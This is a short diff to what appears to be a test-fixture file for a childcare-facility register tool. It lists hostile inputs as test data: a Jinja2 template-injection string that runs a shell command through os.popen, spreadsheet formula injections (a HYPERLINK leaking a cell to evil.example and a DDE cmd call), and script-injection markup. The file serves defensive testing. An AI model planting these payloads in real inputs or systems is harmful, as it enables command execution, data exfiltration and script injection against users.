@@ -23,9 +23,9 @@ HEADER = ["编号", "名称", "类型", "经度", "纬度", "托位数", "开办
 POINTS = [(121.2270, 31.0050), (121.2150, 31.0330), (121.2350, 31.0130), (121.2050, 31.0230), (121.2450, 31.0430),
           (121.1950, 31.0130), (121.2550, 31.0230), (121.2250, 31.0530)]
 
-#: Text a hostile or careless register may carry: templates, formulas, markup.
+#: Text a hostile or careless register may carry: templates (Jinja2, and matplotlib's $mathtext$), formulas, markup.
 TEMPLATE_PAYLOADS = ("{{7*7}}号托育点", "{% raw %}托育点", "{# 托育点", "}}托育点{{",
-                     "{{ cycler.__init__.__globals__.os.popen('touch svcov-pwned').read() }}")
+                     "{{ cycler.__init__.__globals__.os.popen('touch svcov-pwned').read() }}", "$\\frac{$托育点")
 FORMULA_PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1托育点",
                     "-2+3托育点", "@SUM(A1:A2)")
 MARKUP_PAYLOADS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
